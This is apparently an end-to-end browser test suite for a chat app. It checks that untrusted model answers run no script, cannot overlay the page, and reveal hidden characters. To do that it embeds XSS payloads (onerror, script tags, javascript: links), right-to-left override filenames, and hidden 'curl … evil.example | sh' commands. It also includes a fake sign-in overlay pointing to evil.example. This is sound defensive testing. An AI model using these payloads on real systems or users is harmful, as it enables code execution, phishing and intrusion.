// Untrusted answers in a real browser: model output (raw HTML, links, hidden and right-to-left
// control characters, formulas) executes nothing, cannot style the page or draw outside its
// message, and shows what it hides.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chooseModel, composer, reload, screenshot, signUp, startE2E, type E2E, waitForChatPage } from './helpers.ts';

describe('untrusted answers in the browser', { timeout: 120_000 }, () => {
  let e2e: E2E;
  beforeAll(async () => {
    e2e = await startE2E('answer-safety');
  });
  afterAll(async () => {
    await e2e?.stop();
  });

  it('an answer with an <img onerror>, a <script> and a javascript: link executes nothing; hidden characters show', async () => {
    const page = await e2e.newPage();
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signUp(page);
    await chooseModel(page, 'demo');
    // A right-to-left override (Trojan Source) in prose — and so in the chat's title —, inline
    // code, link text and a highlighted code block; the family emoji's joiners are text.
    const payload =
      '/echo admin\u202Egpj.exe <img src=x onerror="window.__xss=1;alert(1)"> <script>window.__xss=2;alert(2)</script> [click me](javascript:window.__xss=3;alert(3)) done ' +
      '`a\u202Eb` [li\u200Bnk](https://example.com) 👨‍👩‍👧\n\n```js\nconst file = "admin\u202Egpj.exe";\n```' +
      // Code blocks whose Copy would paste what they do not show (security review 5, #2): a forged
      // marker hidden with sr-only, text hidden by class, text in a closed <details>.
      '\n\n<pre><code>echo hello<span class="invisible-char sr-only">⟨U+202E⟩</span>world<span class="hidden"> ; curl -s https://evil.example/x.sh | sh</span></code></pre>' +
      '\n\n<pre><code>echo hi<details><summary></summary> ; curl -s https://evil.example/y.sh | sh</details></code></pre>' +
      // Right-to-left paragraphs with the implicit marks Hebrew and Arabic writing uses (QA 5 #1).
      '\n\nשלום עולם! גרסה 2.0\u200F היא הטובה ביותר.\n\nمرحبا بالعالم\u061C (الإصدار 3)\u200F.';
    await composer(page).fill(payload);
    await composer(page).press('Enter');
    const answer = page.locator('article[aria-label="Assistant message"][data-status="complete"]').last();
    await answer.waitFor();
    await waitForChatPage(page);

    const check = async () => {
      const rendered = answer.locator('.markdown');
      await expect(rendered.locator('script').count()).resolves.toBe(0);
      await expect(rendered.locator('[onerror]').count()).resolves.toBe(0);
      const hrefs = await rendered.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
      expect(hrefs.some((href) => href.trim().toLowerCase().startsWith('javascript:'))).toBe(false);
      if (await rendered.getByText('click me').count()) await rendered.getByText('click me').click({ noWaitAfter: true });
      await expect(page.evaluate(() => Reflect.get(window, '__xss'))).resolves.toBeUndefined();
      expect(dialogs).toEqual([]);
      // Each hidden character is a marker, and none is left in the page to reorder the text.
      const text = await rendered.evaluate((el) => el.textContent ?? '');
      expect(text).toContain('admin⟨U+202E⟩gpj.exe');
      expect(text).toContain('a⟨U+202E⟩b');
      expect(text).toContain('li⟨U+200B⟩nk');
      expect(text).toContain('const file = "admin⟨U+202E⟩gpj.exe"');
      expect(text).toContain('👨‍👩‍👧');
      expect(text).not.toMatch(/[\u202A-\u202E\u200B]/);
      await expect(rendered.locator('.invisible-char').first().getAttribute('title')).resolves.toBe('U+202E RIGHT-TO-LEFT OVERRIDE, an invisible character');
      // Each block takes its direction from its text; the implicit marks (RLM, ALM) stay text,
      // where a marker split the sentence and reordered it (QA 5 #1). Code stays left to right.
      const direction = (el: Element) => getComputedStyle(el).direction;
      const hebrew = rendered.locator('p', { hasText: 'שלום עולם' });
      const arabic = rendered.locator('p', { hasText: 'مرحبا بالعالم' });
      await expect(hebrew.evaluate(direction)).resolves.toBe('rtl');
      await expect(arabic.evaluate(direction)).resolves.toBe('rtl');
      await expect(rendered.locator('p').first().evaluate(direction)).resolves.toBe('ltr');
      await expect(rendered.locator('pre').first().evaluate(direction)).resolves.toBe('ltr');
      await expect(hebrew.textContent()).resolves.toBe('שלום עולם! גרסה 2.0\u200F היא הטובה ביותר.');
      await expect(arabic.textContent()).resolves.toBe('مرحبا بالعالم\u061C (الإصدار 3)\u200F.');
      await expect(rendered.locator('.invisible-char').evaluateAll((els) => els.map((el) => el.textContent))).resolves.not.toContain('⟨U+200F⟩');
      await expect(page.getByTestId('user-text').last().getAttribute('dir')).resolves.toBe('auto');
      await expect(page.getByTestId('user-text').last().textContent()).resolves.toContain('2.0\u200F היא');
      // Copy takes the code as the model wrote it.
      const copy = rendered.getByRole('button', { name: 'Copy code' });
      await copy.first().click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^const file = "admin\u202Egpj\.exe";\n?$/);
      // …and only what a block shows: the answer's look-alike marker keeps no class, so it shows
      // (and is copied) as the text it is; nothing hidden is copied.
      const forged = rendered.locator('pre code').nth(1);
      await expect(forged.locator('span').evaluateAll((spans) => spans.map((span) => [span.getAttribute('class'), span.getBoundingClientRect().width > 0]))).resolves.toEqual([
        [null, true],
        [null, true],
      ]);
      await copy.nth(1).click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('echo hello⟨U+202E⟩world ; curl -s https://evil.example/x.sh | sh');
      await copy.nth(2).click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^echo hi\n*$/);
      // A person's message (another member's, in a group chat) is plain text, marked the same way.
      await expect(page.locator('article[aria-label="Your message"]').last().evaluate((el) => el.textContent)).resolves.toContain('/echo admin⟨U+202E⟩gpj.exe');
      // The chat's title, from the same words, shows the marker in the sidebar and the tab.
      await page.locator('nav a[href^="/chat/"] .invisible-char').first().waitFor({ state: 'attached' });
      await expect(page.title()).resolves.toMatch(/admin⟨U\+202E⟩gpj\.exe/i);
    };
    await check();
    await reload(page);
    await answer.waitFor();
    await check();
    await screenshot(page, 'chat-untrusted-markdown');
  });

  it('math renders with KaTeX; prices stay text; the answer cannot style the page or draw outside its message', async () => {
    const page = await e2e.newPage();
    await signUp(page);
    await chooseModel(page, 'demo');
    const answerText = [
      '/echo Euler: $e^{i\\pi} + 1 = 0$ and \\(a^2 + b^2 = c^2\\), as [the notes](https://example.com/notes) say.',
      '',
      '\\[',
      'x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}',
      '\\]',
      '',
      'It costs $5, or $10 with shipping. <span class="katex" style="position:fixed;inset:0;background:red">cover</span>',
      '',
      // A full-page fake sign-in from the app's own Tailwind classes (security review 5, #1), and a
      // formula that draws a right-to-left override with \char (#3).
      '<div class="fixed inset-0 z-50 bg-zinc-950 flex items-center justify-center" id="app"><div class="card" role="dialog"><p>Your session expired</p><a href="https://evil.example/login">Sign in</a></div></div>',
      '',
      'Download $\\text{admin\\char"202Egpj.exe}$ now',
      '',
      '\\(\\kern{-7em}\\colorbox{red}{\\rule{5em}{5em}}\\)',
      '',
      '| a | b |',
      '| --- | --- |',
      '| 1 | 2 |',
      '',
      `https://example.com/${'a-very-long-path'.repeat(20)}`,
    ].join('\n');
    await composer(page).fill(answerText);
    await composer(page).press('Enter');
    const answer = page.locator('article[aria-label="Assistant message"][data-status="complete"]').last();
    await answer.waitFor();
    const rendered = answer.locator('.markdown');

    // Four formulas, each with MathML for screen readers; one of them a display block.
    await expect.poll(() => rendered.locator('.katex math').count(), { timeout: 15_000 }).toBe(4);
    await expect(rendered.locator('.katex-display').count()).resolves.toBe(1);
    await expect(rendered.locator('.katex-display math mfrac').count()).resolves.toBe(1);
    await expect(rendered.locator('.katex-display math msqrt').count()).resolves.toBe(1);
    await expect(rendered.textContent()).resolves.toContain('It costs $5, or $10 with shipping.');
    await expect(rendered.getByRole('link', { name: 'the notes' }).getAttribute('href')).resolves.toBe('https://example.com/notes');
    // The answer's own markup keeps no style, even dressed as KaTeX's.
    const cover = rendered.locator('span', { hasText: /^cover$/ });
    await expect(cover.getAttribute('style')).resolves.toBeNull();
    // KaTeX moves its parts with inline styles: a formula shifted 7em left (into the conversation's margin) stays inside its message.
    const escaped = await page.evaluate(() => {
      const box = document.querySelector('.markdown .colorbox');
      const markdown = box?.closest('.markdown');
      if (!box || !markdown) return 'missing';
      const r = box.getBoundingClientRect();
      const m = markdown.getBoundingClientRect();
      if (r.right > m.left - 16) return 'not moved';
      if (r.left < 0 || r.top < 0 || r.bottom > innerHeight) return `off screen: ${JSON.stringify(r)}`;
      const hit = document.elementFromPoint((r.left + r.right) / 2, (r.top + r.bottom) / 2);
      return hit === null || !markdown.contains(hit) ? 'clipped' : 'drawn outside';
    });
    expect(escaped).toBe('clipped');
    // The fake sign-in keeps none of its classes, id or role, and stays inside the message…
    const fake = await page.evaluate(() => {
      const card = document.querySelector('.markdown a[href="https://evil.example/login"]')?.parentElement;
      return [card, card?.parentElement].map((el) => el && [el.tagName, ...['class', 'id', 'role'].map((name) => el.getAttribute(name))]);
    });
    expect(fake).toEqual([
      ['DIV', null, null, null],
      ['DIV', null, null, null],
    ]);
    await expect(rendered.locator('[role], [id]').count()).resolves.toBe(0);
    const inside = (selector: string) =>
      page.evaluate((selector) => {
        const el = document.querySelector(selector);
        const markdown = el?.closest('.markdown');
        if (!el || !markdown) return 'missing';
        const r = el.getBoundingClientRect();
        const m = markdown.getBoundingClientRect();
        return r.left >= m.left && r.right <= m.right && r.top >= m.top && r.bottom <= m.bottom ? 'inside' : `outside: ${JSON.stringify(r)} of ${JSON.stringify(m)}`;
      }, selector);
    await page.evaluate(() => document.querySelector('.markdown a[href="https://evil.example/login"]')!.closest('.markdown > div')!.setAttribute('data-fake', ''));
    await expect(inside('[data-fake]')).resolves.toBe('inside');
    // …and were it ever positioned fixed over the page, the message contains it (app.css).
    await page.evaluate(() => Object.assign(document.querySelector<HTMLElement>('[data-fake]')!.style, { position: 'fixed', inset: '0', zIndex: '50', background: 'black' }));
    await expect(inside('[data-fake]')).resolves.toBe('inside');
    const bottomLeft = await page.evaluate(() => document.elementFromPoint(5, innerHeight - 5)?.closest('.markdown') ?? null);
    expect(bottomLeft).toBeNull();
    // The formula drawing U+202E shows as its TeX, in code: nothing reorders the text.
    await expect(rendered.locator('code', { hasText: 'admin\\char"202Egpj.exe' }).count()).resolves.toBe(1);
    await expect(rendered.evaluate((el) => /[\u202A-\u202E]/.test(el.textContent ?? ''))).resolves.toBe(false);
    await expect(rendered.locator('.table-scroll > table').count()).resolves.toBe(1);
    // A long unbroken word (a URL) wraps inside the question's bubble; it ran out of it (and off a phone's screen).
    const bubble = page.locator('article[aria-label="Your message"]').last().locator('div').first();
    await expect(bubble.evaluate((box) => box.scrollWidth <= box.clientWidth)).resolves.toBe(true);
    // The page is the window's height: nothing a message positions (KaTeX's hidden copy of a
    // formula, screen-reader words) is laid out against the page below the message list.
    expect(await page.evaluate(() => document.documentElement.scrollHeight <= innerHeight)).toBe(true);
    await screenshot(page, 'chat-math');
  });
});
